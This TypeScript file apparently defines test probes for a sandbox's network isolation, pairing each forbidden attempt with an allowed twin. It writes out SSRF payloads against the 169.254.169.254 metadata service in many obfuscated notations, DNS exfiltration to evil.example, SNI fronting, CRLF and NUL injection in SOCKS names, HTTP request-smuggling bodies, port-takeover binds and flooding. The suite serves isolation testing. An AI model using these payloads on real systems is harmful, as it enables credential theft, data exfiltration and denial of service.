/** What a program tries on the network, and the same where it is allowed. {names} are the scene's; each attempt carries a mark of its own. */

/** A word of attempts.py with its arguments. */
export type Act = readonly [string, ...(string | number)[]];

export interface NetworkProbe {
  /** Completes "cannot …". */
  claim: string;
  act: Act;
  /** Where the same, or what is told, succeeds: in a sandbox whose rules name it, or in the network namespace itself. */
  twin: { where: "sandbox" | "host"; act?: Act };
  /** A host saw the mark, unless told: a name server did; the program said that it gained something; a host saw both. */
  judge?: "asked" | "gained" | "hostField";
}

/** Addresses of the namespace that no sandbox may reach. */
export const forbidden = {
  metadata: "169.254.169.254",
  gateway: "10.77.0.1",
  /** Of this machine, and no private one. */
  own: "11.12.13.14",
  metadata6: "fd00:ec2::254",
} as const;

const get = (host: string, extra = "") => `GET /{mark} HTTP/1.1\r\nHost: ${host}\r\n${extra}Connection: close\r\n\r\n`;
const absolute = (host: string, extra = "") =>
  `GET http://${host}:{web}/{mark} HTTP/1.1\r\nHost: x\r\n${extra}Connection: close\r\n\r\n`;

const raw: NetworkProbe[] = [
  ...Object.values(forbidden),
  "127.0.0.1",
  "0.0.0.0",
  "::1",
  "::ffff:169.254.169.254",
].flatMap((address): NetworkProbe[] => [
  { claim: `reach ${address} by TCP`, act: ["tcp", address, "{web}", get("x")], twin: { where: "host" } },
  { claim: `reach ${address} by UDP`, act: ["udp", address, "{web}", "{mark}"], twin: { where: "host" } },
]);

const pings: NetworkProbe[] = [forbidden.metadata, forbidden.gateway].map((address) => ({
  claim: `get an answer from ${address} by ICMP`,
  act: ["icmp", address],
  judge: "gained",
  twin: { where: "host" },
}));

/** All of them are the metadata service's, or the host's own. */
const notations: NetworkProbe[] = [
  "169.254.169.254",
  "2852039166",
  "0xa9fea9fe",
  "0xa9.0xfe.0xa9.0xfe",
  "0251.0376.0251.0376",
  "169.254.43518",
  "169.254.169.254.",
  "[::ffff:169.254.169.254]",
  "[::ffff:a9fe:a9fe]",
].map((host) => ({
  claim: `have the proxy reach the metadata service as ${host}`,
  act: ["proxy", absolute(host)],
  twin: { where: "sandbox" },
}));

const ownPlaces: NetworkProbe[] = ["0.0.0.0", "0", "127.1", "[::]", "[::1]", "[fd00:ec2::254]", "localhost"].map(
  (host) => ({
    claim: `have the proxy reach the host as ${host}`,
    act: ["proxy", absolute(host)],
    twin: { where: "host", act: ["tcp", host.replaceAll(/[[\]]/g, ""), "{web}", get("x")] },
  }),
);

const names: NetworkProbe[] = ["metadata", "gateway", "own"].flatMap((name): NetworkProbe[] => [
  {
    claim: `reach the ${name} address by an allowed name that leads there, through the proxy`,
    act: ["proxy", absolute(`${name}.inner.example`)],
    twin: { where: "sandbox" },
  },
  {
    claim: `reach the ${name} address by an allowed name that leads there, directly`,
    act: ["direct", `${name}.inner.example`, "{web}", "", get(`${name}.inner.example`)],
    twin: { where: "sandbox" },
  },
]);

const spellings: NetworkProbe[] = [
  ["in capitals", "SECRET.OPEN.EXAMPLE"],
  ["with a last dot", "secret.open.example."],
  ["in mixed case with a last dot", "sEcReT.oPeN.example."],
].map(([how, host]) => ({
  claim: `reach a denied name ${how}`,
  act: ["proxy", absolute(host ?? "")],
  twin: { where: "sandbox" },
}));

const tunnelling: NetworkProbe[] = [
  ...[1, 16, 28, 5, 255].map(
    (type): NetworkProbe => ({
      claim: `have a name that is not allowed looked up, by a question of type ${type}`,
      act: ["ask", "127.64.0.1", 53, "{mark}.evil.example", type],
      judge: "asked",
      twin: { where: "host", act: ["ask", "127.0.0.1", "{dns}", "{mark}.evil.example", type] },
    }),
  ),
  {
    claim: "carry data out in questions for names that are allowed",
    act: ["ask", "127.64.0.1", 53, "{mark}.open.example", 1],
    judge: "asked",
    twin: { where: "sandbox", act: ["proxy", absolute("{mark}.open.example")] },
  },
  {
    claim: "have a name looked up that it asks the proxy for and that is not allowed",
    act: ["proxy", absolute("{mark}.evil.example")],
    judge: "asked",
    twin: { where: "sandbox", act: ["proxy", absolute("{mark}.open.example")] },
  },
  {
    claim: "have a name looked up whose label is too long",
    act: ["proxy", absolute(`{mark}${"a".repeat(63)}.open.example`)],
    judge: "asked",
    twin: { where: "sandbox", act: ["proxy", absolute("{mark}.open.example")] },
  },
  {
    claim: "have a name looked up that is punycode of nothing",
    act: ["proxy", absolute("{mark}.xn--zz--zz.open.example")],
    judge: "asked",
    twin: { where: "sandbox", act: ["proxy", absolute("{mark}.xn--bcher-kva.open.example")] },
  },
  {
    claim: "speak DNS over HTTPS with a host that is not allowed",
    act: [
      "tunnel",
      "other.example:{tls}",
      "other.example",
      get("other.example", "Accept: application/dns-message\r\n"),
    ],
    twin: { where: "sandbox" },
  },
];

const nameAllowed: NetworkProbe["twin"] = {
  where: "sandbox",
  act: ["tunnel", "allowed.example:{tls}", "allowed.example", get("allowed.example")],
};

const fronting: NetworkProbe[] = [
  ["CONNECT names an allowed host and the hello another", "other.example"],
  ["CONNECT names an allowed host and the hello the same below it", "x.allowed.example"],
  ["the hello names no host", "127.0.0.1"],
].map(([how, name]) => ({
  claim: `reach a TLS host where ${how}`,
  act: ["tunnel", "allowed.example:{tls}", name ?? "", get("allowed.example")],
  twin: nameAllowed,
}));

const hosts: NetworkProbe[] = [
  {
    claim: "reach a TLS host directly where the hello names another",
    act: ["direct", "allowed.example", "{tls}", "other.example", get("other.example")],
    twin: { where: "sandbox", act: ["direct", "other.example", "{tls}", "other.example", get("other.example")] },
  },
  {
    claim: "name another host in a request to an allowed one, directly",
    act: ["direct", "allowed.example", "{web}", "", get("other.example")],
    judge: "hostField",
    twin: { where: "sandbox", act: ["direct", "other.example", "{web}", "", get("other.example")] },
  },
  {
    claim: "name another host in a request to an allowed one, through the proxy",
    act: [
      "proxy",
      "GET http://allowed.example:{web}/{mark} HTTP/1.1\r\nHost: other.example\r\nConnection: close\r\n\r\n",
    ],
    judge: "hostField",
    twin: { where: "sandbox", act: ["proxy", absolute("other.example")] },
  },
  {
    claim: "be taken to the metadata service by a redirect of an allowed host",
    act: ["follow", "http://allowed.example:{web}/to/http://169.254.169.254:{web}/{mark}"],
    twin: { where: "sandbox" },
  },
  {
    claim: "reach an allowed name on another port by CONNECT",
    act: ["tunnel", "allowed.example:{port}", "", get("allowed.example")],
    twin: { where: "sandbox" },
  },
  {
    claim: "reach an address by SOCKS",
    act: ["socks", 1, forbidden.metadata, "{web}", get("x")],
    twin: { where: "sandbox" },
  },
  {
    claim: "reach an IPv6 address by SOCKS",
    act: ["socks", 4, forbidden.metadata6, "{web}", get("x")],
    twin: { where: "sandbox" },
  },
  {
    claim: "reach an IPv4-mapped address by SOCKS",
    act: ["socks", 4, "::ffff:169.254.169.254", "{web}", get("x")],
    twin: { where: "sandbox" },
  },
  {
    claim: "hide another host behind an end of line in a SOCKS name",
    act: ["socks", 3, "allowed.example\r\nHost: other.example", "{web}", get("allowed.example")],
    twin: { where: "sandbox", act: ["socks", 3, "allowed.example", "{web}", get(`allowed.example:{web}`)] },
  },
  {
    claim: "hide another host behind a zero byte in a SOCKS name",
    act: ["socks", 3, "other.example\0.open.example", "{web}", get("other.example")],
    twin: { where: "sandbox", act: ["socks", 3, "other.example", "{web}", get("other.example")] },
  },
  {
    claim: "upgrade to a WebSocket at a host that is not allowed",
    act: [
      "proxy",
      absolute("other.example", "Upgrade: websocket\r\nConnection: Upgrade\r\n").replace(/Connection: close\r\n/, ""),
    ],
    twin: { where: "sandbox" },
  },
];

const inner = "GET /{mark} HTTP/1.1\r\nHost: other.example\r\n\r\n";
const post = (fields: string, body: string) =>
  `POST http://allowed.example:{web}/outer HTTP/1.1\r\nHost: x\r\n${fields}\r\n\r\n${body}`;
const smuggling: NetworkProbe[] = [
  ["a length before chunks", post("Content-Length: 5\r\nTransfer-Encoding: chunked", `0\r\n\r\n${inner}`)],
  ["chunks before a length", post("Transfer-Encoding: chunked\r\nContent-Length: 4", `5c\r\n${inner}\r\n0\r\n\r\n`)],
  ["chunks in an odd spelling", post("Content-Length: 5\r\nTransfer-Encoding:\tchunked", `0\r\n\r\n${inner}`)],
  ["chunks that some do not know", post("Content-Length: 0\r\nTransfer-Encoding: xchunked", inner)],
  ["two lengths", post("Content-Length: 0\r\nContent-Length: 60", inner)],
  ["a length with a sign", post("Content-Length: +0", inner)],
  [
    "a length that concerns the connection",
    post("Content-Length: 60\r\nConnection: content-length", inner).replace("POST", "GET"),
  ],
  ["an end of line in a field", absolute("allowed.example", `X: 1\n\n${inner}`)],
].map(([how, text]) => ({
  claim: `have a request read inside another by ${how}`,
  act: ["proxy", text ?? ""],
  judge: "hostField",
  twin: { where: "sandbox", act: ["proxy", absolute("other.example")] },
}));

const takeovers: NetworkProbe[] = [
  ["SOCK_DGRAM", "127.64.0.1", 53],
  ["SOCK_DGRAM", "127.64.0.1", 53, "SO_REUSEADDR"],
  ["SOCK_DGRAM", "127.64.0.1", 53, "SO_REUSEPORT"],
  ["SOCK_DGRAM", "127.64.0.1", 53, "SO_BINDTODEVICE"],
  ["SOCK_DGRAM", "0.0.0.0", 53],
  ["SOCK_DGRAM", "0.0.0.0", 53, "SO_REUSEADDR", "SO_REUSEPORT"],
  ["SOCK_STREAM", "127.64.0.1", 53, "SO_REUSEADDR", "SO_REUSEPORT"],
  ["SOCK_STREAM", "127.64.0.1", 3128, "SO_REUSEADDR", "SO_REUSEPORT"],
  ["SOCK_STREAM", "127.64.0.1", 1080, "SO_REUSEPORT", "SO_BINDTODEVICE"],
  ["SOCK_STREAM", "0.0.0.0", 443, "SO_REUSEADDR", "SO_REUSEPORT"],
  ["SOCK_STREAM", "127.64.0.9", 443, "SO_REUSEADDR"],
].map(([kind = "", address = "", port = 0, ...options]) => ({
  claim: `bind ${address}:${port} as ${[kind, ...options].join(" with ")}`,
  act: ["bind", kind, address, port, ...options],
  judge: "gained",
  twin: { where: "host" },
}));

/** What a sandbox does to the gate, while and after which its neighbour and it itself reach what they may. */
export const floods: readonly { claim: string; act: Act }[] = [
  { claim: "keep a neighbour from the network by noise at the resolver and the proxies", act: ["garbage", 400] },
  {
    claim: "keep a neighbour from the network by 2,000 connections, half of them half a request",
    act: ["flood", 2_000],
  },
];

export const networkProbes: readonly NetworkProbe[] = [
  ...raw,
  ...pings,
  ...notations,
  ...ownPlaces,
  ...names,
  ...spellings,
  ...tunnelling,
  ...fronting,
  ...hosts,
  ...smuggling,
  ...takeovers,
];
